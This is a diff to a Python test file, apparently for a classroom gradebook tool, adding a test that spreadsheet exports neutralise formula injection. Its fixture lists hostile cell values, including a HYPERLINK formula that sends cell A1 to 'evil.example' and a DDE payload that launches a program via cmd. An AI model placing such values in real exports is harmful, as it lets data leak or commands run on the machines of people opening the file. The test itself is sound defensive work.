@@ -15,6 +15,7 @@ from jinja2 import Environment
 from nbconvert import HTMLExporter
 
 from classroom import feedback
+from classroom.export import Grade, plain, read_table, spreadsheet, table_of, write_table
 from classroom.feedback import Page, TaskLine, render, write_feedback
 from classroom.gradebook import graded_notebook, open_gradebook
 from classroom.grading import grade_class
@@ -95,6 +96,33 @@ def test_whatever_a_page_says_it_says_as_text(name):
     with unescaped:
         if name not in ("a template", "a handler that ends a string", "a comment that hides"):  # no tags in them
             assert not is_safe(render(page))
+
+
+FORMULAS = {
+    "a formula with a link": '=HYPERLINK("http://evil.example?"&A1, "grade")',
+    "a formula that starts a program": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a formula behind spaces": "   +1+1",
+    "a formula behind a tab": "\t=1+1",
+    "a formula with a wide sign": "＝1+1",
+}
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_an_export_starts_no_formula(name):
+    """As whatever a student may choose: the id, the names, and what a file is refused for."""
+    text = FORMULAS[name]
+    grade = Grade(text, text, text, text, state="no grade", reason=text)
+
+    def cells():
+        return read_table(write_table(table_of([grade])))[1]
+
+    def start(cells):
+        return [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "＝"))]
+
+    assert start(cells()) == []
+    assert [plain(cell) for cell in cells()].count(text) == 5
+    with mock.patch.object(spreadsheet, "_looks_like_a_formula", return_value=False):
+        assert start(cells()) == [text] * 5
 
 
 NO_PICTURES = {
